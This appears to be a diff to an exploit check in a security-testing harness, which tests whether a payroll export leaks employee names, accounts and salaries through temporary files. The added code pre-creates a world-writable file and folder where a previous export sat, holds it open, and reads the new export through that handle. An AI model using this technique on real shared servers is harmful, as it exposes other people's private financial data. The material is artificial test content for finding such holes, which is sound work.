@@ -1,7 +1,7 @@
 import assert from 'node:assert/strict'
-import { chmodSync, closeSync, openSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs'
+import { chmodSync, closeSync, mkdirSync, openSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs'
 import { tmpdir } from 'node:os'
-import { join } from 'node:path'
+import { dirname, join } from 'node:path'
 import { createPool } from '#proof/sql'
 import type { Breach, Vary } from '#proof/vary'
 
@@ -52,7 +52,9 @@ export async function exploit({ exportPayroll }: Code, vary: Vary): Promise<Brea
   const damage = 'It has names, accounts and salaries of everybody in the company.'
   // One attacker looks while the upload runs.
   let seen = ''
+  let usual = ''
   const upload = async (file: string) => {
+    usual = file
     seen += readAsOther(tmpdir(), file)
     // In a folder of its own, that folder's rights decide.
     if (join(file, '..') !== tmpdir() && (statSync(join(file, '..')).mode & 0o001) !== 0) seen += readFileSync(file, 'utf8')
@@ -60,15 +62,23 @@ export async function exploit({ exportPayroll }: Code, vary: Vary): Promise<Brea
   const first = open(vary)
   await exportPayroll(first.db, { upload }, log, first.company)
   if (seen.includes(first.iban)) return { sent: 'another user of the server reads the export while it is uploaded', got: seen, damage }
-  // The other one has made the file beforehand and keeps it open.
-  const { db, company, iban } = open(vary)
-  const own = join(tmpdir(), `payroll-${company}.csv`)
-  writeFileSync(own, '')
-  chmodSync(own, 0o666)
-  const handle = openSync(own, 'r')
-  await exportPayroll(db, { upload: async () => {} }, log, company).catch(() => undefined)
-  seen = readFileSync(handle, 'utf8')
-  closeSync(handle)
-  rmSync(own, { force: true })
-  return seen.includes(iban) && { sent: `another user has made payroll-${company}.csv in the temporary folder before, and keeps it open`, got: seen, damage }
+  // The other one has made the file of the next month beforehand, where the last one was, and keeps it open.
+  const { db, company, iban } = first
+  for (const path of new Set([join(tmpdir(), `payroll-${company}.csv`), usual])) {
+    const folder = dirname(path)
+    const isOwn = folder !== tmpdir()
+    if (isOwn) {
+      mkdirSync(folder, { recursive: true })
+      chmodSync(folder, 0o777)
+    }
+    writeFileSync(path, '')
+    chmodSync(path, 0o666)
+    const handle = openSync(path, 'r')
+    await exportPayroll(db, { upload: async () => {} }, log, company).catch(() => undefined)
+    seen = readFileSync(handle, 'utf8')
+    closeSync(handle)
+    rmSync(isOwn ? folder : path, { recursive: true, force: true })
+    if (seen.includes(iban)) return { sent: `another user has made ${path} before, where the export of last month was, and keeps it open`, got: seen, damage }
+  }
+  return false
 }
